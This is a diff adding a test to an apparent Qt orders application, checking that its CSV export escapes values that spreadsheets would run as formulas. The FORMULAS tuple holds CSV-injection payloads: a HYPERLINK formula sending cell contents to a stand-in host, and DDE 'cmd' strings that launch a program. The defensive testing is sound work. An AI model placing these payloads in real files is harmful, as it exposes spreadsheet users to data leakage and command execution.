@@ -317,3 +317,54 @@ def test_every_declared_column_shows_a_field_of_an_order_and_sorts_by_it() -> No
         assert (model.alignments[position] is not None) == (column.kind in RIGHT_KINDS)
     assert model.toned_columns == {column_of("status"), column_of("balance_due")}
     assert len(model.column_titles()) == len(COLUMNS) == len(model._format(order))
+
+
+FORMULAS = ('=HYPERLINK("http://x.invalid/?"&A1,"Ver")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")  # fmt: skip
+
+
+def as_a_spreadsheet_reads(cell: str) -> tuple[str, str]:
+    """What a spreadsheet makes of a CSV cell: ('text', …) after a leading ', ('formula', …)
+    for what starts one, ('number', …) for digits, else ('text', …). A tab or a carriage
+    return in front is trimmed first by some, so they count as what follows."""
+    if cell.startswith("'"):
+        return "text", cell[1:]
+    trimmed = cell.lstrip("\t\r")
+    number = trimmed.lstrip("+-").removeprefix("R$").replace(",", "").strip()
+    if trimmed[:1] in ("+", "-") and number.replace(".", "", 1).isdigit():
+        return "number", trimmed
+    if trimmed[:1] in ("=", "+", "-", "@"):
+        return "formula", trimmed
+    return ("number" if number.replace(".", "", 1).isdigit() else "text"), cell
+
+
+def test_an_export_runs_nothing_a_service_wrote_and_keeps_amounts_numbers(
+    qtbot: QtBot, window: MainWindow, sandbox: SandboxServer, tmp_path: Path
+) -> None:
+    """Issue 89: names beginning with =, +, -, @, a tab or a carriage return were written as
+    they came, and a spreadsheet ran them (=HYPERLINK(…)); OWASP's advice is a ' in front.
+    Amounts the desk writes stay numbers (a negative one: the revenue's test)."""
+    orders = window.orders.model.visible_orders()[: len(FORMULAS)]
+    with sandbox.db.connect() as conn:  # as another till, or a hostile import, wrote them
+        for order, name in zip(orders, FORMULAS, strict=True):
+            conn.execute(
+                "UPDATE orders SET customer_name = ?, seller_name = ? WHERE order_id = ?",
+                (name, name, order.order_id),
+            )
+    window.activateWindow()
+    qtbot.waitUntil(window.isActiveWindow, timeout=5_000)
+    qtbot.keyClick(window, Qt.Key.Key_F5)
+    qtbot.waitUntil(
+        lambda: any(o.customer_name == FORMULAS[0] for o in window.orders.model.visible_orders()),
+        timeout=10_000,
+    )
+    path = window.orders.export_csv(str(tmp_path / "orders.csv"))
+    assert path is not None
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    titles = rows[0]
+    read = [dict(zip(titles, map(as_a_spreadsheet_reads, row), strict=True)) for row in rows[1:]]
+    assert not [cell for row in read for cell in row.values() if cell[0] == "formula"]
+    names = {row["Customer"][1] for row in read}
+    assert set(FORMULAS) <= names  # each name still reads as the service wrote it, as text
+    assert all(row["Amount"][0] == "number" for row in read)
